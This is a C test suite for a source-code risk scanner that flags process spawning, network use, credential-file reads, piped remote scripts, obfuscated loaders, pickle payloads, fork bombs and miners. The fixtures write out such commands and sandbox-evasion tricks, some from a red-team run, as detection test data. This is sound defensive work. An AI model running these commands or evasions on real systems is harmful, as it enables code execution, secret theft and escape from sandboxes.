/* common/risk.c: comments and strings are not code in any language, each rule family is found
 * (also through aliases and names built from pieces), on the right line, denied modules,
 * levels, and input that is empty, binary or not NUL-terminated. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <criterion/criterion.h>

#include "common/risk.h"

/* ==== Helpers ==== */

static const char *const langs[] = {"python", "node", "c", "sh"};
#define NLANGS (sizeof(langs) / sizeof(*langs))

static struct risk_report scan_denied(const char *lang, const char *src,
                                      const char *const *denied)
{
    struct risk_report r = {0};

    cr_assert_eq(risk_scan(lang, (const uint8_t *)src, strlen(src), denied, &r), 0);
    return r;
}

static struct risk_report scan(const char *lang, const char *src)
{
    return scan_denied(lang, src, NULL);
}

/* The finding of rule (on line, unless 0), or NULL. */
static const struct risk_finding *find_at(const struct risk_report *r, const char *rule,
                                          uint32_t line)
{
    for (size_t i = 0; i < r->count; i++)
        if (!strcmp(r->findings[i].rule, rule) && (!line || r->findings[i].line == line))
            return &r->findings[i];
    return NULL;
}

static const struct risk_finding *find(const struct risk_report *r, const char *rule)
{
    return find_at(r, rule, 0);
}

static void expect_rule(const char *lang, const char *src, const char *rule, uint32_t line)
{
    struct risk_report r = scan(lang, src);
    const struct risk_finding *f = find(&r, rule);

    cr_expect_not_null(f, "%s: no %s finding in:\n%s", lang, rule, src);
    if (f && line)
        cr_expect_not_null(find_at(&r, rule, line), "%s: %s on line %u, not %u", lang, rule,
                           f->line, line);
    cr_expect_geq(r.level, RISK_MEDIUM, "%s: level %s for:\n%s", lang,
                  risk_level_name(r.level), src);
    risk_report_clear(&r);
}

/* One source that must yield a given rule, for expect_rule_cases. */
struct rule_case {
    const char *lang;
    uint32_t line;      /* where the finding must be; 0 for anywhere */
    const char *src;
};

#define RULE_CASES(cases) (cases), sizeof(cases) / sizeof(*(cases))

static void expect_rule_cases(const char *rule, const struct rule_case *cases, size_t n)
{
    for (size_t i = 0; i < n; i++)
        expect_rule(cases[i].lang, cases[i].src, rule, cases[i].line);
}

static void expect_quiet(const char *lang, const char *src)
{
    struct risk_report r = scan(lang, src);

    cr_expect_lt(r.level, RISK_MEDIUM, "%s: level %s (first: %s) for:\n%s", lang,
                 risk_level_name(r.level), r.count ? r.findings[0].rule : "-", src);
    risk_report_clear(&r);
}

/* ==== Comments and string literals are not code ==== */

Test(risk, python_comments_and_strings_ignored)
{
    expect_quiet("python", "# os.system('id')\nprint(\"subprocess.run\")\n"
                           "s = '''\nimport socket\nos.popen(x)\n'''\n"
                           "r = r'exec(base64.b64decode(x))'\nb = b\"eval(input())\"\n"
                           "def execute(self):\n    return 'system'\n");
}

Test(risk, node_comments_strings_and_templates_ignored)
{
    expect_quiet("node", "// require('child_process')\n/* eval(fetch(x)) */\n"
                         "const a = \"require('net')\";\nconst b = 'child_process';\n"
                         "const c = `exec ${1 + 2} spawn`;\nconst re = /require\\('x'\\)/;\n");
}

Test(risk, c_comments_strings_and_chars_ignored)
{
    expect_quiet("c", "#include <stdio.h>\n/* system(\"rm\") */\n// execve(x)\n"
                      "int main(void) { puts(\"system(1); fork();\"); char q = '\"';\n"
                      "puts(\"socket\"); return q; }\n");
}

Test(risk, sh_comments_and_quoted_text_ignored)
{
    expect_quiet("sh", "#!/bin/sh\n# curl http://x | sh\necho 'curl http://x | sh'\n"
                       "echo \"nc -e /bin/sh\"\nprintf '%s\\n' wget\nls -la | sort\n");
}

Test(risk, f_string_fields_are_code)
{
    expect_rule("python", "import os\nx = f\"{os.system('id')}\"\n", "process_spawn", 2);
}

Test(risk, template_fields_are_code)
{
    expect_rule("node", "const x = `${require('child_process').execSync('id')}`;\n",
                "process_spawn", 1);
}

/* ==== Rule families ==== */

Test(risk, process_spawn_each_language)
{
    static const struct rule_case spawns[] = {
        {"python", 1, "import subprocess\n"},
        {"python", 3, "import os\n\nos.system('id')\n"},
        {"node", 1, "const { exec } = require('child_process');\n"},
        {"c", 4, "#include <stdlib.h>\nint main(void)\n{\n    return system(\"id\");\n}\n"},
    };

    expect_rule_cases("process_spawn", RULE_CASES(spawns));
    expect_rule("c", "int main(void) { while (1) fork(); }\n", "fork_bomb", 1);
    expect_rule("sh", ":(){ :|:& };:\n", "fork_bomb", 1);
}

Test(risk, network_and_raw_sockets)
{
    static const struct rule_case networks[] = {
        {"python", 1, "import requests\n"},
        {"node", 1, "const net = require('node:net');\n"},
        {"sh", 2, "echo hi\ncurl -s http://x/\n"},
        {"sh", 1, "exec 3<>/dev/tcp/10.0.0.1/80\n"},
    };

    expect_rule_cases("network", RULE_CASES(networks));
    expect_rule("python", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW)\n",
                "raw_socket", 2);
    expect_rule("c", "int f(void) { return socket(AF_PACKET, SOCK_RAW, 0); }\n", "raw_socket",
                1);
}

Test(risk, fs_probe)
{
    static const struct rule_case probes[] = {
        {"python", 1, "print(open('/etc/shadow').read())\n"},
        {"python", 2, "import os\nfor r, d, f in os.walk('/'):\n    pass\n"},
        {"node", 1, "require('fs').readdirSync('/')\n"},
        {"c", 1, "int main(void) { return !opendir(\"/\"); }\n"},
        {"sh", 1, "cat /etc/passwd\n"},
        {"sh", 1, "find / -name '*.key'\n"},
    };

    expect_rule_cases("fs_probe", RULE_CASES(probes));
    expect_quiet("sh", "echo hi > /dev/null 2>&1\ncat /dev/stdin\n");
    expect_quiet("python", "open('data/etc/file.txt')\nprint('./proc/x')\n");
}

Test(risk, eval_fetched)
{
    static const struct rule_case cases[] = {
        {"python", 2, "from urllib.request import urlopen\nexec(urlopen(u).read())\n"},
        {"python", 4, "import requests\ncode = requests.get(u).text\n\neval(code)\n"},
        {"node", 1, "fetch(u).then(r => r.text()).then(t => eval(t));\n"},
        {"sh", 1, "curl -s http://x/i.sh | sh\n"},
        {"sh", 1, "wget -qO- http://x | sudo bash\n"},
        {"sh", 1, "bash <(curl -s http://x)\n"},
        {"sh", 1, "sh -c \"$(curl -fsSL http://x)\"\n"},
    };

    expect_rule_cases("eval_fetched", RULE_CASES(cases));
}

Test(risk, obfuscated_loader)
{
    static const struct rule_case cases[] = {
        {"python", 2, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
        {"python", 2, "import zlib\nexec(zlib.decompress(data))\n"},
        {"python", 1, "exec('tixe'[::-1])\n"},
        {"node", 1, "eval(atob('YWxlcnQoMSk='));\n"},
        {"node", 1, "[].constructor.constructor('return this')();\n"},
        {"node", 1, "const f = globalThis['ev' + 'al'];\n"},
        {"sh", 1, "echo aWQ= | base64 -d | sh\n"},
        {"sh", 1, "$(echo Y3VybA== | base64 -d) http://x\n"},
    };

    expect_rule_cases("obfuscated_loader", RULE_CASES(cases));
}

Test(risk, crypto_mining)
{
    static const struct rule_case cases[] = {
        {"python", 1, "pool = 'stratum+tcp://pool.example:3333'\n"},
        {"node", 1, "const p = 'xmr.nanopool.org';\n"},
        {"c", 4, "#include <stdint.h>\n#include <sys/socket.h>\nint main(void) {\n"
                 " uint32_t nonce = 0; int fd = socket(AF_INET, SOCK_STREAM, 0);\n"
                 " while (sha256_check(nonce) > difficulty) nonce++;\n}\n"},
        {"sh", 1, "./xmrig -o pool:3333\n"},
    };

    expect_rule_cases("crypto_mining", RULE_CASES(cases));
}

/* ==== Cases a red-team run found (tests/risk/corpus/redteam/) ==== */

Test(risk, a_clone_method_is_no_function_constructor)
{
    expect_quiet("node", "class V {\n  constructor(x) { this.x = x; }\n"
                         "  clone() { return new this.constructor(this.x); }\n}\n"
                         "console.log(new V(3).clone().x);\n");
    expect_quiet("node", "function Node(v) { this.v = v; }\n"
                         "Node.prototype.copy = function () {\n"
                         "  return new this.constructor(this.v);\n};\n"
                         "const o = new Node(1);\nconst p = new o.constructor(o.v);\n");
    expect_quiet("node", "class Repo { fork() { return new Repo(); } }\n"
                         "let r = new Repo();\nfor (let i = 0; i < 3; i++) { r = r.fork(); }\n");
    /* the trick itself is still seen, also on this when the argument is code */
    expect_rule("node", "const f = (() => 0).constructor('return process')();\n",
                "obfuscated_loader", 1);
    expect_rule("node", "function f() { return this.constructor('return process')(); }\n",
                "obfuscated_loader", 1);
    expect_rule("node", "const f = new (function () {}).constructor('return 1');\n",
                "obfuscated_loader", 1);
}

Test(risk, an_ordinary_key_named_exec_is_no_loader)
{
    expect_quiet("node", "const ops = { exec: (a, b) => a + b };\n"
                         "console.log(ops[\"exec\"](1, 2));\n");
    expect_quiet("python", "cmds = {\"exec\": 1, \"popen\": 2}\n"
                           "print(cmds[\"exec\"], cmds['popen'])\n");
    expect_quiet("python", "class T(dict):\n    def run(self):\n        return self['exec']\n");
    expect_quiet("node", "module.exports['exec'] = (x) => x;\n");
    /* on a namespace of code it is one */
    expect_rule("python", "import builtins\nbuiltins.__dict__['exec']('print(1)')\n",
                "obfuscated_loader", 2);
    expect_rule("python", "globals()['__builtins__']\n", "obfuscated_loader", 1);
    expect_rule("node", "globalThis['eval']('1')\n", "obfuscated_loader", 1);
    expect_rule("node", "ops['ex' + 'ec']\n", "obfuscated_loader", 1);
    expect_rule("node", "const g = globalThis;\ng['eval']('1');\n", "obfuscated_loader", 2);
    expect_rule("python", "import os\no = os\no.system('id')\n", "process_spawn", 3);
}

/* A local proof of work cannot be told from a mining loop: medium, below a strict tenant's
 * reject_at high; with the network it is high. */
Test(risk, a_local_proof_of_work_is_medium_and_with_a_network_high)
{
    static const char pow[] = "import hashlib\n"
                              "def proof_of_work(data, zeros):\n"
                              "    nonce_count = 0\n"
                              "    while True:\n"
                              "        d = hashlib.sha256(f'{data}{nonce_count}'.encode())\n"
                              "        d = d.hexdigest()\n"
                              "        if d.startswith('0' * zeros):\n"
                              "            return nonce_count\n"
                              "        nonce_count += 1\n";
    char net[sizeof(pow) + 64];
    struct risk_report local = scan("python", pow);

    cr_expect_eq(local.level, RISK_MEDIUM, "level %s", risk_level_name(local.level));
    risk_report_clear(&local);
    snprintf(net, sizeof(net), "import socket\n%s", pow);
    expect_rule("python", net, "crypto_mining", 4);
    expect_rule("python", "import hashlib\nnonce = 0\nurl = 'stratum+tcp://pool:3333'\n",
                "crypto_mining", 3);
}

Test(risk, red_team_misses)
{
    static const struct rule_case spawn[] = {
        {"python", 2, "import posix\nposix.system('id')\n"},
        {"python", 1, "from posix import system\nsystem('id')\n"},
        {"python", 2, "import sys\nsys.modules['os'].system('id')\n"},
        {"python", 2, "import os\nvars(os)['system']('id')\n"},
        {"python", 3, "import sys\nm = sys.modules['os']\nm.system('id')\n"},
        {"node", 1, "const cp = process.getBuiltinModule('child_process');\n"},
        {"node", 2, "const r = require('module').createRequire(__filename);\n"
                    "r('child_process').execSync('id');\n"},
        {"node", 1, "require('module').createRequire(__filename)('child_process');\n"},
        {"sh", 1, "awk 'BEGIN{system(\"id\")}'\n"},
        {"sh", 1, "perl -e 'system \"id\"; `id`'\n"},
    };
    static const struct rule_case fetched[] = {
        {"sh", 1, "awk 'BEGIN { system(\"curl -s http://x/a | sh\") }'\n"},
    };
    static const struct rule_case loaders[] = {
        {"python", 3, "import pickle\np = b\"cposix\\nsystem\\n(S'id'\\ntR.\"\n"
                      "pickle.loads(p)\n"},
        {"python", 2, "import pickle, base64\npickle.loads(base64.b64decode(x))\n"},
        {"python", 2, "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')\n"},
    };

    expect_rule_cases("process_spawn", RULE_CASES(spawn));
    expect_rule_cases("obfuscated_loader", RULE_CASES(loaders));
    expect_rule_cases("eval_fetched", RULE_CASES(fetched));
    expect_rule("node", "const { createRequire } = require('module');\n"
                        "const load = createRequire(__filename);\nload(process.argv[2]);\n",
                "dynamic_import", 3);
    /* a pickle round trip, and awk that only prints, are nothing */
    expect_quiet("python", "import pickle\nb = pickle.dumps([1, 2])\nprint(pickle.loads(b))\n");
    expect_quiet("sh", "awk '{ n += $2 } END { print n }' data.txt\n");
    expect_quiet("python", "import sys\nm = sys.modules['json']\nprint(m.dumps(1))\n");
}

Test(risk, native_code)
{
    static const struct rule_case cases[] = {
        {"python", 2, "import ctypes\nctypes.CDLL(None).syscall(57)\n"},
        {"python", 2, "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)\n"},
        {"c", 1, "int main(void) { __asm__ volatile (\"nop\"); return 0; }\n"},
        {"c", 1, "#include <sys/ptrace.h>\n"},
        {"c", 1, "long f(int p) { return ptrace(PTRACE_ATTACH, p, 0, 0); }\n"},
        {"node", 1, "process.binding('spawn_sync');\n"},
    };

    expect_rule_cases("native_code", RULE_CASES(cases));
}

Test(risk, dynamic_import)
{
    static const struct rule_case cases[] = {
        {"python", 2, "import importlib\nm = importlib.import_module(name)\n"},
        {"python", 1, "m = __import__(input())\n"},
        {"node", 1, "const m = require(process.argv[2]);\n"},
    };

    expect_rule_cases("dynamic_import", RULE_CASES(cases));
}

/* ==== Evasions ==== */

Test(risk, aliases)
{
    static const struct rule_case spawns[] = {
        {"python", 3, "import subprocess as sp\n\nsp.run(['id'])\n"},
        {"python", 1, "from os import system as s\ns('id')\n"},
        {"python", 4, "import os as o\n\n\no.popen('id')\n"},
        {"python", 2, "from os import *\nsystem('id')\n"},
        {"node", 1, "const cp = require('child_' + 'process');\n"},
        {"node", 1, "import { exec as run } from 'child_process';\n"},
    };

    expect_rule_cases("process_spawn", RULE_CASES(spawns));
    expect_rule("python", "import urllib.request\nrun = exec\n"
                          "run(urllib.request.urlopen(u).read())\n", "eval_fetched", 3);
}

Test(risk, names_built_from_pieces)
{
    expect_rule("python", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "process_spawn", 2);
    expect_rule("python", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "obfuscated_loader",
                2);
    expect_rule("python", "__import__('o' + 's').popen('id')\n", "process_spawn", 1);
    expect_rule("python", "__import__('o' + 's')\n", "obfuscated_loader", 1);
    expect_rule("node", "const cp = require('child_' + 'process');\n", "obfuscated_loader", 1);
    expect_rule("sh", "a=cu; b=rl\n$a$b http://x\n", "network", 2);
    expect_rule("sh", "f=\"/etc/\"'sha'\"dow\"\ncat \"$f\"\n", "fs_probe", 1);
}

Test(risk, code_inside_shell)
{
    expect_rule("sh", "echo start\npython3 -c 'import os; os.system(\"id\")'\n",
                "process_spawn", 2);
    expect_rule("sh", "python3 - <<EOF\nprint(1)\nimport socket\nEOF\n", "network", 3);
    expect_rule("sh", "node -e \"require('child_process').execSync('id')\"\n",
                "process_spawn", 1);
}

Test(risk, shell_coreutils_are_benign)
{
    expect_quiet("sh", "set -eu\nfor f in *.txt; do\n  wc -l \"$f\" | sort -n > out.txt\n"
                       "done\nx=$(date +%s)\ntar czf a.tgz data\nawk '{s+=$1} END {print s}'\n");
}

Test(risk, benign_python_stays_low)
{
    expect_quiet("python", "import json, re, math, os.path, threading\nfrom collections import "
                           "Counter\nimport sys\n\nclass Job:\n    def execute(self):\n"
                           "        return json.loads(sys.stdin.read())\n\n"
                           "with open('out.txt', 'w') as f:\n    f.write('exec system socket')\n"
                           "t = threading.Thread(target=print)\nx = eval(input())\n");
}

/* ==== Line numbers ==== */

Test(risk, line_numbers_count_every_newline)
{
    const char *src = "'''\na\nb\n'''\n# c\n\"x\\\ny\"\nimport os\nos.system('id')\n";
    struct risk_report r = scan("python", src);
    const struct risk_finding *f = find(&r, "process_spawn");

    cr_assert_not_null(f);
    cr_expect_eq(f->line, 9);
    risk_report_clear(&r);

    expect_rule("node", "/* a\nb\nc */\nconst s = `x\ny`;\nrequire('net');\n", "network", 6);
    expect_rule("c", "/*\n*/\n#define X \\\n  1\nint f(void) { return system(\"x\"); }\n",
                "process_spawn", 5);
    expect_rule("sh", "cat <<EOF\n/etc/passwd is text\nEOF\necho ok\ncurl x\n", "network", 5);
}

/* ==== Denied modules ==== */

Test(risk, denied_modules_per_language)
{
    const char *const py[] = {"json", "numpy", NULL};
    const char *const js[] = {"fs", NULL};
    const char *const c[] = {"sys/mman.h", "pthread", NULL};
    struct risk_report r;
    const struct risk_finding *f;

    r = scan_denied("python", "import sys\nfrom json import loads\nimport numpy.linalg as la\n",
                    py);
    cr_expect_eq(r.count, 2);
    f = find(&r, "denied_module");
    cr_assert_not_null(f);
    cr_expect_eq(f->line, 2);
    cr_expect_eq(f->severity, RISK_CRITICAL);
    cr_expect_eq(r.level, RISK_CRITICAL);
    risk_report_clear(&r);

    r = scan_denied("node", "const fs = require('node:fs/promises');\nimport x from 'fsx';\n",
                    js);
    cr_expect_eq(r.count, 1);
    cr_expect_not_null(find(&r, "denied_module"));
    risk_report_clear(&r);

    r = scan_denied("c", "#include <sys/mman.h>\n#include <pthread.h>\n#include <stdio.h>\n", c);
    cr_expect_eq(r.count, 2);
    risk_report_clear(&r);

    r = scan_denied("python", "m = __import__('nu' + 'mpy')\n", py);
    cr_expect_not_null(find(&r, "denied_module"));
    risk_report_clear(&r);

    r = scan_denied("python", "# import json\nprint('import numpy')\n", py);
    cr_expect_eq(r.count, 0);
    risk_report_clear(&r);
}

/* ==== Levels ==== */

Test(risk, level_is_the_highest_and_report_appends)
{
    struct risk_report r = {0};
    const char *low = "x = eval(input())\n";
    const char *high = "import subprocess\n";

    cr_assert_eq(risk_scan("python", (const uint8_t *)low, strlen(low), NULL, &r), 0);
    cr_expect_eq(r.level, RISK_LOW);
    cr_assert_eq(risk_scan("python", (const uint8_t *)high, strlen(high), NULL, &r), 0);
    cr_expect_eq(r.level, RISK_HIGH);
    cr_expect_eq(r.count, 2);
    cr_assert_eq(risk_scan("python", (const uint8_t *)low, strlen(low), NULL, &r), 0);
    cr_expect_eq(r.level, RISK_HIGH, "a later, lower finding does not lower the level");
    risk_report_clear(&r);
    cr_expect_eq(r.count, 0);
    cr_expect_null(r.findings);
    cr_expect_eq(r.level, RISK_NONE);
}

Test(risk, level_order_and_names)
{
    static const char *const names[] = {"none", "low", "medium", "high", "critical"};

    cr_expect(RISK_NONE < RISK_LOW && RISK_LOW < RISK_MEDIUM && RISK_MEDIUM < RISK_HIGH &&
              RISK_HIGH < RISK_CRITICAL);
    for (int i = RISK_NONE; i <= RISK_CRITICAL; i++) {
        cr_expect_str_eq(risk_level_name(i), names[i]);
        cr_expect_eq(risk_level_parse(names[i]), i);
    }
    cr_expect_null(risk_level_name((enum risk_level)5));
    cr_expect_null(risk_level_name((enum risk_level)-1));
    cr_expect_eq(risk_level_parse("HIGH"), -EINVAL);
    cr_expect_eq(risk_level_parse(""), -EINVAL);
    cr_expect_eq(risk_level_parse(NULL), -EINVAL);
}

/* ==== Odd input ==== */

Test(risk, unknown_language_and_empty_input)
{
    struct risk_report r = {0};
    const char *src = "import subprocess\n";

    cr_expect_eq(risk_scan("cobol", (const uint8_t *)src, strlen(src), NULL, &r), 0);
    cr_expect_eq(r.count, 0);
    cr_expect_eq(r.level, RISK_NONE);
    cr_expect_eq(risk_scan(NULL, (const uint8_t *)src, strlen(src), NULL, &r), 0);
    cr_expect_eq(r.count, 0);
    for (size_t l = 0; l < NLANGS; l++) {
        cr_expect_eq(risk_scan(langs[l], (const uint8_t *)"", 0, NULL, &r), 0);
        cr_expect_eq(risk_scan(langs[l], NULL, 0, NULL, &r), 0);
    }
    cr_expect_eq(r.count, 0);
}

/* The source ends exactly at a page that cannot be read: a read past its end faults. */
static uint8_t *at_page_end(const char *text, size_t n, void **map, size_t *map_len)
{
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    size_t len = ((n + page - 1) / page + 1) * page;
    uint8_t *base = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    cr_assert_neq(base, MAP_FAILED);
    cr_assert_eq(mprotect(base + len - page, page, PROT_NONE), 0);
    *map = base;
    *map_len = len;
    memcpy(base + len - page - n, text, n);
    return base + len - page - n;
}

Test(risk, unterminated_constructs_never_read_past_the_end)
{
    static const char *const cases[] = {
        "'''", "\"abc\\", "f'{x", "x = '", "#", "/*", "`${", "`${a", "'\\", "/[", "#include <",
        "#include \"a", "\"", "'", "cat <<EOF\nx", "echo \"$(", "$'\\", "a\\", "$((", "`",
        "getattr(", "__import__(", "require(", "import", "from x import (", "exec(", "f(\"",
        "x = eval(", "<<", "python3 -c", "bash <(", "(void (*", "asm"};

    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        for (size_t l = 0; l < NLANGS; l++) {
            void *map;
            size_t map_len, n = strlen(cases[i]);
            uint8_t *src = at_page_end(cases[i], n, &map, &map_len);
            struct risk_report r = {0};

            cr_expect_eq(risk_scan(langs[l], src, n, NULL, &r), 0);
            /* every prefix too: each one ends inside a construct */
            for (size_t k = 0; k < n; k++)
                cr_expect_eq(risk_scan(langs[l], src + n - k, k, NULL, &r), 0);
            risk_report_clear(&r);
            munmap(map, map_len);
        }
    }
}

Test(risk, binary_input_never_crashes)
{
    size_t n = 1 << 16;
    uint8_t *buf = malloc(n);
    uint32_t x = 2463534242u;

    cr_assert_not_null(buf);
    for (int round = 0; round < 8; round++) {
        for (size_t i = 0; i < n; i++) {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            /* later rounds lean on the bytes that open and close constructs */
            buf[i] = round < 4 ? (uint8_t)x : (uint8_t)"'\"`$({[#/*\\\n<>|&;)}] x"[x % 23];
        }
        for (size_t l = 0; l < NLANGS; l++) {
            struct risk_report r = {0};

            cr_expect_eq(risk_scan(langs[l], buf, n, NULL, &r), 0);
            cr_expect_leq(r.level, RISK_CRITICAL);
            for (size_t k = 0; k < r.count; k++)
                cr_expect(r.findings[k].line >= 1 && r.findings[k].rule[0]);
            risk_report_clear(&r);
        }
    }
    free(buf);
}
